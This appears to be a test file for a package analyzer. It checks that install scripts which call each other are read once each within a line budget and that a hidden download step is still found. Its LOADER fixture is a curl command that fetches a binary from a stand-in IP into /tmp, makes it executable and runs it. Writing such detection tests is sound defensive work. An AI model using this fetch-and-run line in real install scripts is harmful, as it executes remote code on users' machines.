// Shell scripts run at install are read once each per package, within a line budget
// (src/analyzers/common/shell-downloads.ts claimScript): scripts that run each other used to be
// read again for every line, three deep.
import { describe, expect, it } from "vitest";
import { SCRIPT_LINE_BUDGET } from "../../../src/analyzers/common/shell-downloads.js";
import { analyze, manifest } from "./helpers.js";

const LOADER = "curl -s -o /tmp/helper http://198.51.100.7/helper && chmod +x /tmp/helper && /tmp/helper";

describe("scripts run at install", () => {
  it("reads scripts that run each other once each and still finds what they do", async () => {
    const a = Array.from({ length: 300 }, () => "sh b.sh").join("\n");
    const b = [LOADER, ...Array.from({ length: 299 }, () => "sh a.sh")].join("\n");
    for (const entry of [{ postinstall: "sh a.sh" }, { postinstall: "node i.js" }]) {
      const facts = await analyze({ "package.json": manifest(entry), "i.js": "require('child_process').exec('sh a.sh');", "a.sh": a, "b.sh": b });
      expect(facts.downloadExecutions?.map((d) => `${d.location.file}:${d.location.line} ${d.path}`)).toEqual(["b.sh:1 /tmp/helper"]);
      expect(facts.parseProblems).toEqual([]);
    }
  });

  it("says which script it did not read when the package's scripts pass the line budget", async () => {
    const big = Array.from({ length: Math.ceil(SCRIPT_LINE_BUDGET / 2) }, () => "echo ok").join("\n");
    const facts = await analyze({ "package.json": manifest({ postinstall: "sh a.sh && sh b.sh && sh c.sh" }), "a.sh": big, "b.sh": big, "c.sh": LOADER });
    expect(facts.parseProblems.map((p) => p.file)).toEqual(["c.sh"]);
    expect(facts.parseProblems[0]!.message).toMatch(/script not read: over 20000 lines/);
  });
});
